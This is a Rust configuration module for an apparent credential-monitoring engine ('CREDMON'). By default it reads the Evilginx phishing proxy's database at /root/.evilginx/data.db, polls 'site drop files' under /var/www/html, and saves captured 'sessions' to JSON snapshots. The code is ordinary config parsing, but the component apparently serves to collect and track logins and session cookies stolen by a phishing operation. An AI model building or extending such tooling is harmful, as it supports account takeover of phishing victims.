//! Engine configuration.

use std::env;
use std::path::{Path, PathBuf};
use std::time::Duration;

use crate::error::{ConfigError, MonitorResult};
use crate::extract::DEFAULT_SITE_FILE;

/// Configuration for a `Registry`.
#[derive(Debug, Clone)]
pub struct EngineConfig {
    /// Proxy log file scanned by the log-source extractor.
    pub log_source_path: PathBuf,
    /// Root whose subdirectories hold site drop files.
    pub site_root: PathBuf,
    /// Drop file name inside each site directory.
    pub site_file_name: String,
    /// Directory holding both snapshots and the lock file.
    pub state_dir: PathBuf,
    /// Records snapshot file name (relative to `state_dir`).
    pub records_file: String,
    /// Monitor configuration snapshot file name (relative to `state_dir`).
    pub monitors_file: String,
    /// Sleep between watch-loop iterations.
    pub poll_interval: Duration,
    /// Respawn loops for monitors persisted as active. Off by default: a
    /// restart comes up quiesced and needs explicit reactivation.
    pub resume_active_on_start: bool,
}

impl Default for EngineConfig {
    fn default() -> Self {
        Self {
            log_source_path: PathBuf::from("/root/.evilginx/data.db"),
            site_root: PathBuf::from("/var/www/html"),
            site_file_name: DEFAULT_SITE_FILE.to_string(),
            state_dir: PathBuf::from("."),
            records_file: "sessions.json".to_string(),
            monitors_file: "monitors.json".to_string(),
            poll_interval: Duration::from_secs(5),
            resume_active_on_start: false,
        }
    }
}

impl EngineConfig {
    /// Defaults overlaid with `CREDMON_*` environment variables.
    pub fn from_env() -> MonitorResult<Self> {
        let mut cfg = Self::default();
        if let Some(v) = var("CREDMON_LOG_SOURCE") {
            cfg.log_source_path = PathBuf::from(v);
        }
        if let Some(v) = var("CREDMON_SITE_ROOT") {
            cfg.site_root = PathBuf::from(v);
        }
        if let Some(v) = var("CREDMON_SITE_FILE") {
            cfg.site_file_name = v;
        }
        if let Some(v) = var("CREDMON_STATE_DIR") {
            cfg.state_dir = PathBuf::from(v);
        }
        if let Some(v) = var("CREDMON_RECORDS_FILE") {
            cfg.records_file = v;
        }
        if let Some(v) = var("CREDMON_MONITORS_FILE") {
            cfg.monitors_file = v;
        }
        if let Some(v) = var("CREDMON_POLL_INTERVAL_MS") {
            let ms: u64 = v.parse().map_err(|e| ConfigError::InvalidEnv {
                var: "CREDMON_POLL_INTERVAL_MS",
                reason: format!("{e}"),
            })?;
            cfg.poll_interval = Duration::from_millis(ms);
        }
        if let Some(v) = var("CREDMON_RESUME_ACTIVE") {
            cfg.resume_active_on_start = matches!(v.to_ascii_lowercase().as_str(), "1" | "true" | "yes");
        }
        cfg.validate()
    }

    /// Config rooted at `state_dir`, with both sources placed under it too.
    /// Handy for tests and sandboxed runs.
    #[must_use]
    pub fn rooted_at(dir: &Path) -> Self {
        Self {
            log_source_path: dir.join("data.db"),
            site_root: dir.join("sites"),
            state_dir: dir.to_path_buf(),
            ..Self::default()
        }
    }

    pub fn validate(self) -> MonitorResult<Self> {
        if self.poll_interval.is_zero() {
            return Err(ConfigError::ZeroPollInterval.into());
        }
        for (field, value) in [
            ("site_file_name", &self.site_file_name),
            ("records_file", &self.records_file),
            ("monitors_file", &self.monitors_file),
        ] {
            if value.trim().is_empty() {
                return Err(ConfigError::EmptyField { field }.into());
            }
        }
        if self.records_file == self.monitors_file {
            return Err(ConfigError::SnapshotCollision {
                name: self.records_file,
            }
            .into());
        }
        Ok(self)
    }

    #[must_use]
    pub fn records_path(&self) -> PathBuf {
        self.state_dir.join(&self.records_file)
    }

    #[must_use]
    pub fn monitors_path(&self) -> PathBuf {
        self.state_dir.join(&self.monitors_file)
    }
}

fn var(name: &str) -> Option<String> {
    env::var(name).ok().filter(|v| !v.trim().is_empty())
}
